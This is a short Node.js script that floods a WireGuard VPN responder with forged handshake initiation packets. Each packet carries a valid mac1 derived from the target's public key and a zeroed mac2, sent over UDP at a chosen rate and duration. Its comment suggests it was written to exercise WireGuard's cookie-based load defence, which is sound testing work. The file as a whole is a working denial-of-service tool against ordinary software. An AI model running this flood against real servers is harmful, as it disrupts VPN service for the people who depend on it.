#!/usr/bin/env node
// Floods a WireGuard responder with 148-byte initiations that carry a valid mac1 (anyone who
// knows its public key can make them) and no mac2: the load the cookie mechanism exists for.
//   initiation-flood.mjs PUBKEY_BASE64 HOST PORT SECONDS RATE [BIND_ADDRESS]
import { createHash, randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { blake2s } from '@noble/hashes/blake2.js';

const [pub, host, port, seconds, rate, bind] = process.argv.slice(2);
const mac1Key = createHash('blake2s256').update('mac1----').update(Buffer.from(pub, 'base64')).digest();
const sock = createSocket('udp4');
if (bind) await new Promise((r) => sock.bind({ address: bind, port: 0 }, r));
const end = Date.now() + Number(seconds) * 1000;
const perTick = Math.max(1, Math.round(Number(rate) / 100));
let sent = 0;
while (Date.now() < end) {
  for (let i = 0; i < perTick; i++) {
    const m = randomBytes(148);
    m.writeUInt32LE(1, 0);
    m.set(blake2s(m.subarray(0, 116), { key: mac1Key, dkLen: 16 }), 116);
    m.fill(0, 132);
    sock.send(m, Number(port), host);
    sent++;
  }
  await new Promise((r) => setTimeout(r, 10));
}
sock.close();
process.stdout.write(`sent ${sent}\n`);
